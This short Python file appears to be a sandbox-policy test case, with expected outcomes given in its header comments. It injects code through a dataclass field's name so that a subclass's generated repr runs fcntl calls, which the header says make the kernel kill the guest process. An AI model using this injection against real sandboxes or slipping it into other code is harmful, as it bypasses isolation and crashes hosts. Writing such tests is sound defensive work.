# tries: code by the name of a dataclass's field, which has the kernel kill the guest
# full: raised
# raw: raised
# policy: accepted
import dataclasses
from dataclasses import dataclass
from types import SimpleNamespace


@dataclass
class A:
    x: object = 0


field = dataclasses.fields(A)[0]
arming = "((8, 1), (10, 9), (4, 0o20001))"
code = f"[__import__('fcntl').fcntl(fd, command, value) for fd in (1, 2, 3, 4) for command, value in {arming}]"
SimpleNamespace.__init__(field, name="x, " + code)


@dataclass(init=False, eq=False, match_args=False)
class B(A):
    pass


repr(B())
print("REACHED")
for _ in range(50):
    print("x" * 1000)
